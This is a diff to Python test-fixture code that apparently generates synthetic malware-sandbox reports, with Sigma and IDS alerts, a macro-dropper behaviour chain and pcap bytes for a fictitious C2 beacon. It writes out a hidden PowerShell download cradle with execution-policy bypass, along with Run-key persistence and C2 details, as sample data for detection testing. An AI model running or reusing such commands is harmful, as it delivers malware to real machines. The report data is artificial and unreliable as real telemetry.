@@ -111,19 +111,134 @@ def behaviour_summary(
             {"id": "persistence_autorun", "name": "Installs itself for autorun at Windows startup",
              "severity": "SIGNATURE_SEVERITY_HIGH", "format": "SIG_FORMAT_CUCKOO", "authors": ["Example Sandbox Team"]},
         ],
+        "sigma_analysis_results": [
+            {"rule_title": "Suspicious Run Key Written by a Binary in AppData", "rule_level": "high",
+             "rule_id": hexid("sigma", "runkey", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
+             "rule_author": "Example Detection Engineering",
+             "rule_description": "Detects Run-key persistence pointing into the user profile",
+             "match_context": [{"values": {"TargetObject": "HKCU\\...\\Run\\InvoiceViewerUpdate",
+                                           "Image": sample}}]},
+            {"rule_title": "PowerShell Execution Policy Bypass from a Hidden Window", "rule_level": "medium",
+             "rule_id": hexid("sigma", "psbypass", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
+             "rule_author": "Example Detection Engineering",
+             "rule_description": "Detects powershell.exe started with -w hidden and -ep bypass",
+             "match_context": [{"values": {
+                 "CommandLine": f"powershell.exe -w hidden -ep bypass -File \"{stage}\""}}]},
+            {"rule_title": "Regsvr32 Silent Registration of a DLL in AppData", "rule_level": "medium",
+             "rule_id": hexid("sigma", "regsvr", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
+             "rule_author": "Example Community Rules",
+             "rule_description": "Detects regsvr32 /s on a user-writable path"},
+            {"rule_title": "Self Deletion via Ping Delay", "rule_level": "low",
+             "rule_id": hexid("sigma", "selfdel", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
+             "rule_author": "Example Community Rules",
+             "rule_description": "Detects cmd /c ping ... & del of the sample"},
+        ],
+        "ids_alerts": [_ids_alert(url, dns) for url in urls if _ids_rule(url)],
     }
 
 
-_SANDBOX_KEYS = ("processes_tree", "processes_created", "command_executions", "files_written", "files_dropped",
-                 "registry_keys_set", "mutexes_created", "dns_lookups", "ip_traffic", "http_conversations",
-                 "mitre_attack_techniques", "verdicts", "tags", "calls_highlighted", "modules_loaded")
+def _ids_rule(url: str) -> tuple[str, str, str, str] | None:
+    """(severity, message, category, rule id) of the demo IDS rule a URL trips, if any."""
+    if url.endswith("gate.php"):
+        return ("high", "ET MALWARE Vexbot CnC Beacon (POST /gate.php)", "A Network Trojan was detected", "1:2999001")
+    if "checkip" in url:
+        return ("medium", "ET INFO External IP Lookup Domain in DNS Query", "Potentially Bad Traffic", "1:2999002")
+    if "/raw/" in url:
+        return ("medium", "ET HUNTING Paste Site Raw Download of a PowerShell Script", "Potentially Bad Traffic",
+                "1:2999003")
+    return None
 
 
-def file_behaviour(summary: dict[str, Any], sandbox: str, has_pcap: bool, index: int) -> dict[str, Any]:
-    """One sandbox's report: a subset of the summary plus the report's own flags."""
+def _ids_alert(url: str, dns: list[tuple[str, list[str]]]) -> dict[str, Any]:
+    rule = _ids_rule(url)
+    assert rule is not None
+    severity, message, category, rule_id = rule
+    parts = urlsplit(url)
+    host = parts.hostname or ""
+    ips = next((ips for h, ips in dns if h == host), [host])
+    return {"rule_msg": message, "alert_severity": severity, "rule_category": category, "rule_id": rule_id,
+            "rule_source": "Example Emerging Rules", "rule_url": "https://rules.example.org/ids/",
+            "alert_context": {"src_ip": SANDBOX_HOST, "src_port": 49712, "dest_ip": ips[0] if ips else host,
+                              "dest_port": parts.port or 80, "hostname": host, "url": url, "protocol": "TCP"}}
+
+
+_PS_AGENT = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"
+
+
+def macro_summary(*, name: str, dns: list[tuple[str, list[str]]], traffic: list[tuple[str, int]],
+                  urls: list[str], dropped: list[tuple[str, str]]) -> dict[str, Any]:
+    """The attributes of a behaviour summary for the macro document that starts the chain."""
+    doc = f"C:\\Users\\<USER>\\Documents\\{name}"
+    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
+    ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
+    cradle = f"powershell.exe -w hidden -ep bypass -c \"iwr {urls[0] if urls else ''} -OutFile $env:TEMP\\s.ps1\""
+    child = dropped[0][0].rsplit("\\", 1)[-1] if dropped else "payload.exe"
+    return {
+        "verdicts": ["MALWARE", "DROPPER"], "verdict_labels": ["Vexbot", "VBA downloader"], "verdict_confidence": 80,
+        "tags": ["MACROS", "DETECT_DEBUG_ENVIRONMENT"],
+        "processes_tree": [{"process_id": "1812", "name": word, "children": [
+            {"process_id": "3320", "name": ps, "children": [
+                {"process_id": "3904", "name": f"%TEMP%\\{child}"}]}]}],
+        "processes_created": [word, ps],
+        "processes_terminated": [ps],
+        "command_executions": [f"\"{word}\" /n \"{doc}\"", cradle],
+        "files_written": [path for path, _ in dropped] + ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\s.ps1"],
+        "files_deleted": ["C:\\Users\\<USER>\\AppData\\Local\\Temp\\s.ps1"],
+        "files_dropped": [{"path": path, "sha256": sha, "type": "file"} for path, sha in dropped],
+        "registry_keys_set": [{
+            "key": "HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents", "value": doc}],
+        "mutexes_created": ["Local\\WinwordMacroMutex"],
+        "dns_lookups": [{"hostname": host, "resolved_ips": ips} for host, ips in dns],
+        "ip_traffic": [{"destination_ip": ip, "destination_port": port, "transport_layer_protocol": "TCP"}
+                       for ip, port in traffic],
+        "http_conversations": [
+            {"url": url, "request_method": "GET", "response_status_code": 200,
+             "request_headers": {"User-Agent": _PS_AGENT, "Host": urlsplit(url).netloc},
+             "response_headers": {"Content-Type": "text/plain; charset=utf-8", "Server": "openresty"}}
+            for url in urls],
+        "mitre_attack_techniques": [
+            {"id": "T1204.002", "signature_description": "Document asks the user to enable content",
+             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
+            {"id": "T1059.005", "signature_description": "Runs a VBA macro when the document opens",
+             "severity": "IMPACT_SEVERITY_HIGH", "refs": []},
+            {"id": "T1059.001", "signature_description": "Starts PowerShell from an Office application",
+             "severity": "IMPACT_SEVERITY_HIGH", "refs": []},
+            {"id": "T1105", "signature_description": "Downloads a script from a paste site",
+             "severity": "IMPACT_SEVERITY_MEDIUM", "refs": []},
+        ],
+        "sigma_analysis_results": [
+            {"rule_title": "Office Application Spawning PowerShell", "rule_level": "high",
+             "rule_id": hexid("sigma", "officeps", n=36), "rule_source": "Sigma Integrated Rule Set (GitHub)",
+             "rule_author": "Example Detection Engineering",
+             "rule_description": "Detects WINWORD.EXE starting powershell.exe"},
+        ],
+        "ids_alerts": [_ids_alert(url, dns) for url in urls if _ids_rule(url)],
+    }
+
+
+_SANDBOX_KEYS = ("processes_tree", "processes_created", "processes_terminated", "command_executions",
+                 "files_written", "files_deleted", "files_dropped", "registry_keys_set", "mutexes_created",
+                 "dns_lookups", "ip_traffic", "http_conversations", "mitre_attack_techniques",
+                 "sigma_analysis_results", "ids_alerts", "tags", "calls_highlighted", "modules_loaded")
+
+
+def file_behaviour(summary: dict[str, Any], sandbox: str, has_pcap: bool, index: int,
+                   verdicts: tuple[str, ...] = ()) -> dict[str, Any]:
+    """One sandbox's report: a subset of the summary plus the report's own flags and verdicts.
+
+    Sandboxes without a capture have no IDS alerts; the one with no verdict saw no
+    HTTP and matched no technique (its ATT&CK tree is null).
+    """
     attrs = {key: summary[key] for key in _SANDBOX_KEYS if key in summary}
-    if sandbox == "VirusTotal Jujubox":
-        attrs.pop("http_conversations", None)
+    attrs["verdicts"] = list(verdicts) or list(summary.get("verdicts") or [])
+    if not has_pcap:
+        attrs.pop("ids_alerts", None)
+    if sandbox == "CAPE Sandbox":  # its signatures only flag what matters: no low or info techniques
+        attrs["mitre_attack_techniques"] = [t for t in attrs.get("mitre_attack_techniques", [])
+                                            if t.get("severity") in ("IMPACT_SEVERITY_HIGH", "IMPACT_SEVERITY_MEDIUM")]
+    if not has_pcap and "UNKNOWN_VERDICT" in verdicts:
+        for key in ("http_conversations", "mitre_attack_techniques", "sigma_analysis_results"):
+            attrs.pop(key, None)
     when = T - 5 * HOUR - index * DAY // 3
     attrs.update({
         "sandbox_name": sandbox, "analysis_date": when, "last_modification_date": when + 600,
@@ -168,14 +283,17 @@ def _dns_name(host: str) -> bytes:
     return b"".join(bytes([len(p)]) + p.encode() for p in host.split(".")) + b"\x00"
 
 
-def pcap_bytes(host: str, ip: str, path: str = "/gate.php", *, start: int = T - 5 * HOUR) -> bytes:
-    """A small, valid pcap: DNS lookup of ``host``, TCP handshake to ``ip``:80, one HTTP POST."""
+def pcap_bytes(host: str, ip: str, path: str = "/gate.php", *, start: int = T - 5 * HOUR,
+               method: str = "POST") -> bytes:
+    """A small, valid pcap: DNS lookup of ``host``, TCP handshake to ``ip``:80, one HTTP request."""
     eth = bytes.fromhex("00005e005301") + bytes.fromhex("00005e005302") + b"\x08\x00"
     query = struct.pack("!HHHHHH", 0x5A17, 0x0100, 1, 0, 0, 0) + _dns_name(host) + struct.pack("!HH", 1, 1)
     answer = (struct.pack("!HHHHHH", 0x5A17, 0x8180, 1, 1, 0, 0) + _dns_name(host) + struct.pack("!HH", 1, 1)
               + struct.pack("!HHHIH", 0xC00C, 1, 1, 300, 4) + ipaddress.IPv4Address(ip).packed)
     body = b"id=SU5WLVZJRVdFUnxVU0VSfDIwMjYwNw%3D%3D"
-    request = (f"POST {path} HTTP/1.1\r\nHost: {host}\r\n"
+    if method != "POST":
+        body = b""
+    request = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\n"
                "User-Agent: Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) "
                f"like Gecko\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(body)}\r\n\r\n"
                ).encode() + body
